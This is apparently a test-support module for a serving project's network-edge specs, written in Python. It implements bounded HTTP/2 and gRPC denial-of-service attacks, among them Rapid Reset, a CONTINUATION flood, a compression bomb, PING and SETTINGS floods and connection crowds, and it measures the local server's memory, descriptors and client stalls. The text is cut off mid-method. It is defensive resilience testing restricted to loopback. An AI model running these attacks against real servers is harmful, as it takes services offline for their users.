"""Attacks on a server's network edge, as issue 23's outside tester ran them, for the edge specs
(tests/serving/test_edge_attacks.py) and bench/edge.py: hand-built HTTP/2 frames over raw
sockets, each attack bounded in count and time and ending by itself, and what the attacker saw
(`Seen`: GOAWAY code, RST_STREAM codes, closed or not, grpc-status, bytes it got to send).

Beside them: the server process's RSS and open file descriptors (`ProcessWatch`), and healthy
clients (`HealthyClients`: tritonclient.grpc ModelInfer and httpx v2 infer in a loop) whose
longest single call is the loop's stall as a client sees it. Loopback only: every attack takes a
port and connects to 127.0.0.1.
"""

from __future__ import annotations

import functools
import os
import select
import socket
import struct
import threading
import time
import zlib
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from hpack import Decoder
from hpack.exceptions import HPACKError

from serving.grpc.http2 import frame, header_field

HOST = "127.0.0.1"
MIB = 1 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
S_MAX_CONCURRENT_STREAMS, S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE = 0x3, 0x4, 0x5
REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x7, 0xB
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR",
               0x3: "FLOW_CONTROL_ERROR", 0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED",
               0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
               0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
               0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED"}
#: grpc-status numbers (grpc.StatusCode's) by name, for reports
GRPC_STATUS = {0: "OK", 1: "CANCELLED", 2: "UNKNOWN", 3: "INVALID_ARGUMENT",
               4: "DEADLINE_EXCEEDED", 5: "NOT_FOUND", 6: "ALREADY_EXISTS",
               7: "PERMISSION_DENIED", 8: "RESOURCE_EXHAUSTED", 9: "FAILED_PRECONDITION",
               10: "ABORTED", 11: "OUT_OF_RANGE", 12: "UNIMPLEMENTED", 13: "INTERNAL",
               14: "UNAVAILABLE", 15: "DATA_LOSS", 16: "UNAUTHENTICATED"}
INFER_PATH = b"/inference.GRPCInferenceService/ModelInfer"
MAX_FRAME = 16_384  # every server's default SETTINGS_MAX_FRAME_SIZE: what a client may send


def literal(name: bytes, value: bytes) -> bytes:
    """One header field, literal without indexing: no HPACK state on either side to track (the
    wire encoding is serving.grpc.http2's: an attacker speaks the same HPACK)."""
    return header_field(name, value)


def header_block(fields: list[tuple[bytes, bytes]]) -> bytes:
    return b"".join(literal(n, v) for n, v in fields)


def grpc_headers(port: int, path: bytes = INFER_PATH,
                 extra: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
    return header_block([(b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
                         (b":authority", b"%s:%d" % (HOST.encode(), port)),
                         (b"content-type", b"application/grpc"), (b"te", b"trailers"),
                         *extra])


def grpc_message(payload: bytes, *, compressed: bool = False, declared: int | None = None) -> bytes:
    """The gRPC length prefix (compressed flag, 4-byte length) and the payload; `declared`: a
    length other than the payload's (a lie)."""
    n = len(payload) if declared is None else declared
    return struct.pack(">BI", 1 if compressed else 0, n) + payload


def infer_request(model: str, rows: int = 1, columns: int = 64) -> bytes:
    """A ModelInferRequest for an FP32 [rows, columns] input `x`, raw contents (serialized)."""
    from tritonclient.grpc import service_pb2 as pb

    request = pb.ModelInferRequest(model_name=model)
    tensor = request.inputs.add(name="x", datatype="FP32")
    tensor.shape.extend([rows, columns])
    request.raw_input_contents.append(b"\x00\x00\x00\x3f" * (rows * columns))
    return request.SerializeToString()


def tile_model() -> bytes:
    """An ONNX model whose answer is large for a small question: x [batch, 64] -> y [batch,
    262144] (Tile): 256 bytes in, 1 MiB out per row (the window-0 attack's model)."""
    from onnx import TensorProto, helper

    from registry import samples

    graph = helper.make_graph(
        [helper.make_node("Tile", ["x", "r"], ["y"])], "tile",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 64])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 262144])],
        [helper.make_tensor("r", TensorProto.INT64, [2], [1, 4096])])
    return helper.make_model(graph, ir_version=samples.IR_VERSION, opset_imports=[
        helper.make_opsetid("", samples.OPSET)]).SerializeToString()


@dataclass
class Seen:
    """What an attacker saw, and how far it got."""

    goaway: int | None = None  # the error code of the server's GOAWAY, if one came
    resets: Counter = field(default_factory=Counter)  # RST_STREAM error codes from the server
    closed: bool = False  # the server closed (or reset) the connection
    statuses: Counter = field(default_factory=Counter)  # grpc-status of answered streams
    sent_bytes: int = 0
    sent_units: int = 0  # frames / streams / connections, per attack
    elapsed_s: float = 0.0
    notes: dict = field(default_factory=dict)

    def merge(self, other: Seen) -> None:
        if other.goaway is not None and self.goaway is None:
            self.goaway = other.goaway
        self.resets.update(other.resets)
        self.statuses.update(other.statuses)
        self.closed = self.closed or other.closed
        self.sent_bytes += other.sent_bytes

    def summary(self) -> str:
        """One short line for a report: GOAWAY, resets, statuses, closed, bytes sent."""
        parts = []
        if self.goaway is not None:
            parts.append(f"GOAWAY {ERROR_NAMES.get(self.goaway, hex(self.goaway))}")
        for code, n in sorted(self.resets.items()):
            parts.append(f"RST {ERROR_NAMES.get(code, hex(code))} ×{n}")
        for code, n in sorted(self.statuses.items()):
            parts.append(f"grpc-status {GRPC_STATUS.get(code, code)} ×{n}")
        parts += [f"{k} {v}" for k, v in self.notes.items()]
        parts.append("closed" if self.closed else "left open")
        parts.append(f"sent {_size(self.sent_bytes)}")
        return ", ".join(parts)


def _size(n: int) -> str:
    return f"{n / MIB:.1f} MiB" if n >= MIB else f"{n / 1024:.0f} KiB" if n >= 1024 else f"{n} B"


class H2Client:
    """One raw HTTP/2 client connection: sends whatever frames it is given, reads what the
    server answers into `seen` (SETTINGS are acknowledged, so a server waiting for that waits
    no longer than it would with a real client; PINGs are answered by the server, not us)."""

    def __init__(self, port: int, *, settings: dict[int, int] | None = None,
                 rcvbuf: int | None = None, preface: bool = True, timeout: float = 5.0) -> None:
        self.port = port
        self.sock = socket.socket()
        if rcvbuf is not None:  # before connect, so the window it advertises is small too
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(timeout)
        self.sock.connect((HOST, port))
        self.sock.setblocking(False)
        self.seen = Seen()
        self.began = time.monotonic()
        self._buffer = bytearray()
        self._decoder = Decoder()
        self._decoder.max_header_list_size = 1 << 24
        self.headers: dict[int, list] = {}
        self.ping_acks = 0
        self.window_updates = 0
        self._acks = bytearray()  # SETTINGS ACKs owed, sent at the next frame boundary
        self.send_window = 65_535  # the connection's flow-control window the server grants
        self.initial_window = 65_535  # ... and each new stream's (its SETTINGS)
        self.stream_windows: dict[int, int] = {}
        if preface:
            entries = b"".join(struct.pack(">HI", k, v) for k, v in (settings or {}).items())
            self.send(PREFACE + frame(SETTINGS, 0, 0, entries))

    # -- sending -----------------------------------------------------------------------------

    def send(self, data: bytes, *, within: float = 5.0, read: bool = True) -> bool:
        """Send all of `data` (reading meanwhile, unless `read` is off); False if the server
        closed, or would not take it all within `within` seconds (it stopped reading).
        Acknowledgements go out between whole sends, never inside a frame."""
        if self._acks:
            data, self._acks = bytes(self._acks) + data, bytearray()
        view = memoryview(data)
        deadline = time.monotonic() + within
        while view or self._acks:
            if not view:  # a boundary: what the reads meanwhile owe the server goes now
                view, self._acks = memoryview(bytes(self._acks)), bytearray()
            if self.seen.closed:
                return False
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            readable, writable = _wait(self.sock, read=read, write=True,
                                       timeout=min(left, 0.5))
            if readable:
                self._read_some()
            if writable:
                try:
                    n = self.sock.send(view[:1 << 20])
                except BlockingIOError:
                    continue
                except OSError as exc:
                    self.seen.closed = True
                    self.seen.notes.setdefault("error", type(exc).__name__)
                    return False
                self.seen.sent_bytes += n
                view = view[n:]
        return True

    def stream(self, stream_id: int, block: bytes, *, end_stream: bool = False,
               max_frame: int = MAX_FRAME) -> bytes:
        """HEADERS (+ CONTINUATION) frames carrying `block` for a new stream."""
        first, rest = block[:max_frame], block[max_frame:]
        flags = (END_STREAM if end_stream else 0) | (0 if rest else END_HEADERS)
        frames = [frame(HEADERS, flags, stream_id, first)]
        while rest:
            chunk, rest = rest[:max_frame], rest[max_frame:]
            frames.append(frame(CONTINUATION, 0 if rest else END_HEADERS, stream_id, chunk))
        return b"".join(frames)

    @staticmethod
    def data(stream_id: int, payload: bytes, *, end_stream: bool = False,
             max_frame: int = MAX_FRAME) -> bytes:
        frames = []
        for pos in range(0, max(len(payload), 1), max_frame):
            last = pos + max_frame >= len(payload)
            frames.append(frame(DATA, END_STREAM if end_stream and last else 0, stream_id,
                                payload[pos:pos + max_frame]))
        return b"".join(frames)

    def send_data(self, stream_id: int, payload: bytes, *, end_stream: bool = False,
                  within: float = 10.0) -> bool:
        """DATA frames for `payload` within the windows the server grants, as a well-behaved
        client sends them (reading WINDOW_UPDATEs while it waits); False if the server closed,
        reset the stream or granted no room within `within` s."""
        deadline = time.monotonic() + within
        self.stream_windows.setdefault(stream_id, self.initial_window)
        pos = 0
        while True:
            room = min(self.send_window, self.stream_windows[stream_id], MAX_FRAME,
                       len(payload) - pos)
            last = pos + room >= len(payload)
            if room > 0 or last:
                chunk = payload[pos:pos + room]
                flags = END_STREAM if end_stream and last else 0
                if not self.send(frame(DATA, flags, stream_id, chunk),
                                 within=max(0.01, deadline - time.monotonic())):
                    return False
                self.send_window -= len(chunk)
                self.stream_windows[stream_id] -= len(chunk)
                pos += len(chunk)
                if last:
                    return True
                continue
            if (self.seen.resets or self.seen.closed or self.seen.goaway is not None
                    or time.monotonic() > deadline):
                return False
            self.pump(min(0.2, deadline - time.monotonic()))

    def call(self, stream_id: int, message: bytes, *, extra=()) -> bytes:
        """The frames of one whole unary gRPC call."""
        return (self.stream(stream_id, grpc_headers(self.port, extra=extra))
                + self.data(stream_id, grpc_message(message), end_stream=True))

    # -- reading -----------------------------------------------------------------------------

    def pump(self, seconds: float, *, until=None) -> Seen:
        """Read what the server sends for up to `seconds` (less once `until()` is true or the
        server closed)."""
        deadline = time.monotonic() + seconds
        while not self.seen.closed and not (until and until()):
            left = deadline - time.monotonic()
            if left <= 0:
                break
            readable, _ = _wait(self.sock, read=True, write=False, timeout=min(left, 0.2))
            if readable:
                self._read_some()
                if self._acks:
                    self.send(b"", within=min(1.0, max(0.01, left)))
        return self.seen

    def alive(self, within: float = 3.0) -> bool:
        """Does the connection still answer a PING (and was it not told to go away)?"""
        acks = self.ping_acks
        if not self.send(frame(PING, 0, 0, b"alive?!!")):
            return False
        self.pump(within, until=lambda: self.ping_acks > acks)
        return self.ping_acks > acks and not self.seen.closed

    def _read_some(self) -> None:
        try:
            chunk = self.sock.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError as exc:
            self.seen.closed = True
            self.seen.notes.setdefault("error", type(exc).__name__)
            return
        if not chunk:
            self.seen.closed = True
            return
        buf = self._buffer
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            stream_id = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(buf[9:9 + length])
            del buf[:9 + length]
            self._frame(ftype, flags, stream_id, payload)

    def _frame(self, ftype: int, flags: int, stream_id: int, payload: bytes) -> None:
        if ftype == SETTINGS and not flags & ACK:
            self._acks += frame(SETTINGS, ACK, 0)
            for pos in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[pos:pos + 6])
                if key == S_INITIAL_WINDOW_SIZE:
                    delta, self.initial_window = value - self.initial_window, value
                    for sid in self.stream_windows:
                        self.stream_windows[sid] += delta
        elif ftype == PING and flags & ACK:
            self.ping_acks += 1
        elif ftype == GOAWAY and len(payload) >= 8:
            self.seen.goaway = int.from_bytes(payload[4:8], "big")
            self.seen.notes.setdefault("goaway_debug", payload[8:80].decode("latin-1"))
        elif ftype == RST_STREAM and len(payload) >= 4:
            self.seen.resets[int.from_bytes(payload[:4], "big")] += 1
        elif ftype == WINDOW_UPDATE and len(payload) >= 4:
            self.window_updates += 1
            increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            if stream_id == 0:
                self.send_window += increment
            elif stream_id in self.stream_windows:
                self.stream_windows[stream_id] += increment
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS and flags & 0x8:  # padded
                payload = payload[1:len(payload) - payload[0]]
            if ftype == HEADERS and flags & 0x20:  # priority
                payload = payload[5:]
            self.headers.setdefault(stream_id, []).append(payload)
            if flags & END_HEADERS:
                try:
                    fields = self._decoder.decode(b"".join(self.headers.pop(stream_id)), raw=True)
                except HPACKError:
                    return
                for name, value in fields:
                    if name == b"grpc-status":
                        self.seen.statuses[int(value)] += 1
                        self.seen.notes.setdefault("grpc-message", "")
                    elif name == b"grpc-message" and not self.seen.notes.get("grpc-message"):
                        self.seen.notes["grpc-message"] = value[:80].decode("latin-1")
        if self.seen.notes.get("grpc-message") == "":
            del self.seen.notes["grpc-message"]

    def close(self) -> Seen:
        self.seen.elapsed_s = time.monotonic() - self.began
        try:
            self.sock.close()
        except OSError:
            pass
        return self.seen


def _wait(sock: socket.socket, *, read: bool, write: bool, timeout: float) -> tuple[bool, bool]:
    """(readable, writable) within `timeout` s: poll(2), which takes descriptors past 1,024
    (an attacker that holds thousands of connections has such)."""
    poller = select.poll()
    poller.register(sock, (select.POLLIN if read else 0) | (select.POLLOUT if write else 0))
    events = 0
    for _, ev in poller.poll(max(0, int(timeout * 1000))):
        events |= ev
    hangup = bool(events & (select.POLLERR | select.POLLHUP))
    return (bool(events & select.POLLIN) or (read and hangup),
            bool(events & select.POLLOUT) or (write and hangup))


def _connect(port: int, **options) -> H2Client | None:
    try:
        return H2Client(port, **options)
    except OSError:
        return None


def _refused(what: str) -> Seen:
    seen = Seen(closed=True)
    seen.notes["connect"] = what
    return seen


# -- 1. memory reserved before the data arrives -------------------------------------------------


def declared_length_streams(port: int, *, streams: int = 32, declared: int = 64 * MIB,
                            hold_s: float = 3.0) -> Seen:
    """`streams` unary calls on one connection, each declaring a `declared`-byte message and
    sending 26 bytes of it, then holding still for `hold_s` (a server that allocates the
    declared length up front grows by streams × declared)."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    frames = [conn.stream(sid, grpc_headers(port))
              + conn.data(sid, grpc_message(b"x" * 26, declared=declared))
              for sid in range(1, 2 * streams, 2)]
    conn.send(b"".join(frames))
    conn.seen.sent_units = streams
    conn.pump(hold_s)
    return conn.close()


# -- 2. compression bomb ------------------------------------------------------------------------


@functools.cache
def gzip_bomb(inflated: int) -> bytes:
    """A gzip member of zeros that inflates to `inflated` bytes (about 1/1000 of it)."""
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(MIB)
    parts = [z.compress(chunk) for _ in range(inflated // MIB)]
    parts.append(z.compress(bytes(inflated % MIB)))
    parts.append(z.flush())
    return b"".join(parts)


def compression_bomb(port: int, *, inflated: int = 1 << 30, wait_s: float = 10.0) -> Seen:
    """One unary call whose gzip message (grpc-encoding: gzip) inflates to `inflated` bytes;
    waits up to `wait_s` for the call's answer."""
    bomb = gzip_bomb(inflated)
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    extra = ((b"grpc-encoding", b"gzip"), (b"grpc-accept-encoding", b"identity,gzip"))
    conn.send(conn.stream(1, grpc_headers(port, extra=extra)))
    conn.send_data(1, grpc_message(bomb, compressed=True), end_stream=True, within=wait_s)
    conn.seen.notes["compressed"] = _size(len(bomb))
    conn.pump(wait_s, until=lambda: conn.seen.statuses or conn.seen.resets
              or conn.seen.goaway is not None)
    return conn.close()


# -- 3. connection crowds -------------------------------------------------------------------------


def connection_crowd(ports: list[int], *, count: int, preface: bool = False,
                     hold_s: float = 5.0, connect_timeout: float = 2.0) -> Seen:
    """`count` connections spread over `ports`, sent nothing (or, with `preface`, the HTTP/2
    preface and an empty SETTINGS), held for up to `hold_s` or until the server closed them
    all. notes: how many the server closed, how many were refused at connect, how many stayed
    open; `answers`: the first bytes a server sent before closing (an HTTP 503, a GOAWAY)."""
    began = time.monotonic()
    seen = Seen()
    socks: list[socket.socket] = []
    refused = 0
    answers: Counter = Counter()
    try:
        for i in range(count):
            s = socket.socket()
            s.settimeout(connect_timeout)
            try:
                s.connect((HOST, ports[i % len(ports)]))
                if preface:
                    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
                    seen.sent_bytes += len(PREFACE) + 9
            except OSError:
                refused += 1
                s.close()
                if time.monotonic() - began > hold_s:
                    break
                continue
            s.setblocking(False)
            socks.append(s)
        seen.sent_units = len(socks)
        open_ = {s.fileno(): s for s in socks}
        poller = select.poll()
        for fd in open_:
            poller.register(fd, select.POLLIN)
        closed_at: list[float] = []
        deadline = time.monotonic() + hold_s
        while open_ and time.monotonic() < deadline:
            for fd, _ in poller.poll(200):
                s = open_.get(fd)
                if s is None:
                    continue
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                if data:
                    answers[_first_word(data)] += 1
                    continue
                del open_[fd]
                poller.unregister(fd)
                closed_at.append(time.monotonic() - began)
        seen.closed = not open_
        seen.notes.update(closed_by_server=len(closed_at), refused_at_connect=refused,
                          still_open=len(open_))
        if closed_at:
            seen.notes["last_closed_s"] = round(max(closed_at), 1)
        if answers:
            seen.notes["answers"] = dict(answers)
    finally:
        for s in socks:
            s.close()
    seen.elapsed_s = time.monotonic() - began
    return seen


def _first_word(data: bytes) -> str:
    if data.startswith(b"HTTP/1.1 "):
        return "HTTP " + data[9:12].decode("latin-1")
    if len(data) >= 9 and data[3] in (SETTINGS, GOAWAY, PING, WINDOW_UPDATE):
        return {SETTINGS: "SETTINGS", GOAWAY: "GOAWAY", PING: "PING",
                WINDOW_UPDATE: "WINDOW_UPDATE"}[data[3]]
    return "bytes"


# -- 4. cheap frames that cost the server a lot -------------------------------------------------


def big_settings(port: int, *, open_streams: int = 1000, settings_bytes: int = MIB,
                 wait_s: float = 5.0) -> Seen:
    """Open `open_streams` calls (headers only), then one SETTINGS frame of `settings_bytes`
    that changes INITIAL_WINDOW_SIZE back and forth (each change touches every open stream)."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    block = grpc_headers(port)
    conn.send(b"".join(conn.stream(sid, block) for sid in range(1, 2 * open_streams, 2)))
    entries = settings_bytes // 6
    payload = b"".join(struct.pack(">HI", S_INITIAL_WINDOW_SIZE, 65_535 + (i & 1))
                       for i in range(entries))
    conn.send(frame(SETTINGS, 0, 0, payload), within=wait_s)
    conn.seen.sent_units = open_streams
    conn.pump(wait_s, until=lambda: conn.seen.goaway is not None)
    return conn.close()


def hpack_size_updates(port: int, *, block_bytes: int = 10 * MIB, wait_s: float = 5.0) -> Seen:
    """One header block of `block_bytes` dynamic-table size updates (0x20: size 0, a byte each,
    free to decode per byte for the attacker, not for a decoder that loops over them), in a
    HEADERS frame and CONTINUATION frames of the default 16 KiB, then a real request's fields."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    block = b"\x20" * block_bytes + grpc_headers(port)
    _send_block(conn, 1, block, wait_s)
    conn.pump(wait_s, until=lambda: conn.seen.goaway is not None or conn.seen.resets)
    return conn.close()


def oversized_header_block(port: int, *, block_bytes: int = 10 * MIB,
                           frame_bytes: int = MAX_FRAME, wait_s: float = 5.0) -> Seen:
    """One call whose metadata is a single `block_bytes` header (`x-big`), in HEADERS +
    CONTINUATION frames of `frame_bytes` (a server that advertised larger frames may take it in
    one HEADERS frame)."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    block = grpc_headers(port, extra=((b"x-big", b"a" * block_bytes),))
    _send_block(conn, 1, block, wait_s, frame_bytes)
    conn.send(conn.data(1, grpc_message(b""), end_stream=True))
    conn.pump(wait_s, until=lambda: conn.seen.goaway is not None or conn.seen.resets
              or conn.seen.statuses)
    return conn.close()


def _send_block(conn: H2Client, stream_id: int, block: bytes, within: float,
                frame_bytes: int = MAX_FRAME) -> None:
    deadline = time.monotonic() + within
    first = True
    for pos in range(0, len(block), 64 * frame_bytes):  # 64 frames per send
        part = block[pos:pos + 64 * frame_bytes]
        frames = []
        for off in range(0, len(part), frame_bytes):
            last = pos + off + frame_bytes >= len(block)
            flags = END_HEADERS if last else 0
            frames.append(frame(HEADERS if first else CONTINUATION, flags, stream_id,
                                part[off:off + frame_bytes]))
            first = False
            conn.seen.sent_units += 1
        left = deadline - time.monotonic()
        if left <= 0 or not conn.send(b"".join(frames), within=left):
            return


def continuation_flood(port: int, *, frames: int = 1_000_000, time_s: float = 5.0) -> Seen:
    """A HEADERS frame without END_HEADERS, then up to `frames` empty CONTINUATION frames (9
    bytes each), for at most `time_s`."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    conn.send(frame(HEADERS, 0, 1, grpc_headers(port)))
    batch = frame(CONTINUATION, 0, 1) * 4096
    deadline = time.monotonic() + time_s
    while conn.seen.sent_units < frames and time.monotonic() < deadline:
        if not conn.send(batch, within=max(0.01, deadline - time.monotonic())):
            break
        conn.seen.sent_units += 4096
        if conn.seen.goaway is not None:
            break
    conn.pump(2.0, until=lambda: conn.seen.goaway is not None)
    return conn.close()


def rapid_reset(port: int, *, streams: int = 400_000, time_s: float = 5.0) -> Seen:
    """HEADERS then RST_STREAM(CANCEL) for up to `streams` new streams in a row, for at most
    `time_s` (CVE-2023-44487): each one starts a call the server must set up and tear down."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    block = grpc_headers(port)
    cancel = struct.pack(">I", 0x8)
    deadline = time.monotonic() + time_s
    sid = 1
    while conn.seen.sent_units < streams and time.monotonic() < deadline:
        batch = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, cancel)
                         for s in range(sid, sid + 2 * 500, 2))
        if not conn.send(batch, within=max(0.01, deadline - time.monotonic())):
            break
        sid += 1000
        conn.seen.sent_units += 500
        if conn.seen.goaway is not None:
            break
    conn.pump(2.0, until=lambda: conn.seen.goaway is not None)
    return conn.close()


def ping_flood(port: int, *, max_bytes: int = 256 * MIB, time_s: float = 5.0) -> Seen:
    """PINGs as fast as the server takes them from a client that never reads (a small receive
    buffer), for up to `max_bytes` or `time_s`. notes['stopped_reading']: the server stopped
    taking bytes (back-pressure) rather than queueing acks without bound."""
    conn = _connect(port, rcvbuf=4096)
    if conn is None:
        return _refused("refused")
    batch = frame(PING, 0, 0, b"pingping") * 4096
    deadline = time.monotonic() + time_s
    stopped = False
    while conn.seen.sent_bytes < max_bytes and time.monotonic() < deadline:
        before = conn.seen.sent_bytes
        if not conn.send(batch, within=min(1.0, max(0.01, deadline - time.monotonic())),
                         read=False):
            stopped = not conn.seen.closed and conn.seen.sent_bytes - before < len(batch)
            if conn.seen.closed or time.monotonic() >= deadline:
                break
            if stopped:  # blocked for a second: the server is not reading; give it time
                break
        conn.seen.sent_units += 4096
    conn.seen.notes["stopped_reading"] = stopped
    conn.pump(1.0)  # now read: a GOAWAY it queued, or the close
    return conn.close()


# -- 5. no back-pressure ------------------------------------------------------------------------


def window_zero(port: int, *, model: str, calls: int = 64, connections: int = 1,
                rows: int = 1, hold_s: float = 3.0) -> Seen:
    """`calls` ModelInfer calls per connection from clients that grant a window of 0 (SETTINGS
    INITIAL_WINDOW_SIZE 0, no WINDOW_UPDATE): the server can send headers but no answer data,
    so every answer it accepts to compute stays with it for `hold_s`."""
    message = grpc_message(infer_request(model, rows))
    clients = [c for c in (_connect(port, settings={S_INITIAL_WINDOW_SIZE: 0})
                           for _ in range(connections)) if c is not None]
    seen = Seen()
    for conn in clients:
        conn.send(b"".join(conn.stream(sid, grpc_headers(port)) + conn.data(sid, message,
                                                                             end_stream=True)
                           for sid in range(1, 2 * calls, 2)))
        conn.seen.sent_units = calls
    deadline = time.monotonic() + hold_s
    while time.monotonic() < deadline:
        for conn in clients:
            conn.pump(0.05)
    for conn in clients:
        seen.merge(conn.close())
        seen.sent_units += conn.seen.sent_units
    seen.closed = bool(clients) and all(c.seen.closed for c in clients)
    seen.notes["connections"] = len(clients)
    return seen


def oversend(port: int, *, declared: int = 10, max_bytes: int = 64 * MIB,
             time_s: float = 5.0) -> Seen:
    """A unary call declaring a `declared`-byte message, then DATA frames of zeros (never
    END_STREAM) until the server resets the stream, goes away, stops reading, or `max_bytes`
    or `time_s` is reached. Flow control is ignored, as an attacker would."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    conn.send(conn.stream(1, grpc_headers(port)) + conn.data(1, grpc_message(
        b"\x00" * declared)))
    batch = frame(DATA, 0, 1, bytes(MAX_FRAME)) * 16
    deadline = time.monotonic() + time_s
    stopped = False
    while conn.seen.sent_bytes < max_bytes and time.monotonic() < deadline:
        if conn.seen.resets or conn.seen.goaway is not None or conn.seen.statuses:
            break
        if not conn.send(batch, within=min(1.0, max(0.01, deadline - time.monotonic()))):
            stopped = not conn.seen.closed
            break
    conn.seen.notes["stopped_reading"] = stopped
    conn.pump(1.0, until=lambda: conn.seen.resets or conn.seen.goaway is not None)
    return conn.close()


# -- 6. malformed metadata ------------------------------------------------------------------------


def bad_binary_metadata(port: int, *, model: str, wait_s: float = 5.0) -> Seen:
    """A ModelInfer call whose `x-token-bin` metadata is not base64, then a valid call on the
    same connection. notes['alive']: the connection still answers a PING and the second call
    got an answer (a bad call fails alone; the connection is not dropped)."""
    conn = _connect(port)
    if conn is None:
        return _refused("refused")
    message = infer_request(model)
    conn.send(conn.call(1, message, extra=((b"x-token-bin", b"!!not*base64%%"),)))
    conn.pump(wait_s, until=lambda: conn.seen.statuses or conn.seen.resets
              or conn.seen.goaway is not None)
    first = dict(conn.seen.statuses)
    conn.seen.notes["bad_call"] = (", ".join(GRPC_STATUS.get(c, str(c)) for c in first)
                                   or ("reset" if conn.seen.resets else "no answer"))
    conn.send(conn.call(3, message))
    conn.pump(wait_s, until=lambda: sum(conn.seen.statuses.values()) > sum(first.values()))
    conn.seen.notes["alive"] = (conn.alive()
                                and sum(conn.seen.statuses.values()) > sum(first.values()))
    return conn.close()


# -- the server process ---------------------------------------------------------------------------


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


def open_fds(pid: int) -> int:
    return len(list(Path(f"/proc/{pid}/fd").iterdir()))


def cpu_seconds(pid: int) -> float:
    """User + system CPU the process used so far."""
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class ProcessWatch:
    """A process's RSS and open fds sampled every `period` s on a thread: start, peak, now."""

    def __init__(self, pid: int, period: float = 0.05) -> None:
        self.pid, self.period = pid, period
        self.start_rss, self.start_fds = rss_mb(pid), open_fds(pid)
        self.start_cpu, self.cpu_s = cpu_seconds(pid), 0.0
        self.peak_rss, self.peak_fds = self.start_rss, self.start_fds
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.wait(self.period):
            try:
                self.peak_rss = max(self.peak_rss, rss_mb(self.pid))
                self.peak_fds = max(self.peak_fds, open_fds(self.pid))
            except OSError:
                return

    def stop(self) -> ProcessWatch:
        self._stop.set()
        self._thread.join()
        self.cpu_s = cpu_seconds(self.pid) - self.start_cpu
        return self

    @property
    def growth_mb(self) -> float:
        return self.peak_rss - self.start_rss

    def settles(self, *, rss_within_mb: float, fds_within: int, timeout: float) -> tuple:
        """Wait up to `timeout` s for RSS and fds to come back near their start; returns
        (rss, fds) as last read."""
        deadline = time.monotonic() + timeout
        while True:
            rss, fds = rss_mb(self.pid), open_fds(self.pid)
            if ((rss <= self.start_rss + rss_within_mb and fds <= self.start_fds + fds_within)
                    or time.monotonic() > deadline):
                return rss, fds
            time.sleep(0.1)


# -- healthy clients ------------------------------------------------------------------------------


@dataclass
class Calls:
    ok: int = 0
    failed: Counter = field(default_factory=Counter)  # status (HTTP code or gRPC name) -> n
    longest_s: float = 0.0

    def summary(self) -> str:
        bad = ", ".join(f"{k} ×{v}" for k, v in sorted(self.failed.items()))
        return f"{self.ok} ok" + (f", failed: {bad}" if bad else "")


class HealthyClients:
    """A tritonclient.grpc client (ModelInfer) and an httpx client (POST /v2/models/<m>/infer),
    each calling in a loop on a thread of its own while an attack runs; each records successes,
    failures by status, and its longest single call. Either address may be None."""

    def __init__(self, *, model: str, grpc_address: str | None, http_url: str | None,
                 pause_s: float = 0.02, timeout_s: float = 20.0) -> None:
        self.model, self.pause_s, self.timeout_s = model, pause_s, timeout_s
        self.grpc, self.http = Calls(), Calls()
        self._stop = threading.Event()
        self._threads = []
        if grpc_address:
            self._threads.append(threading.Thread(target=self._grpc_loop, args=(grpc_address,),
                                                  daemon=True))
        if http_url:
            self._threads.append(threading.Thread(target=self._http_loop, args=(http_url,),
                                                  daemon=True))

    def __enter__(self) -> HealthyClients:
        self._ready = threading.Barrier(len(self._threads) + 1)
        for t in self._threads:
            t.start()
        self._ready.wait(60)  # each did one call (connected, warm) before the attack
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(self.timeout_s + 5)

    def _loop(self, calls: Calls, one) -> None:
        first = True
        while first or not self._stop.is_set():
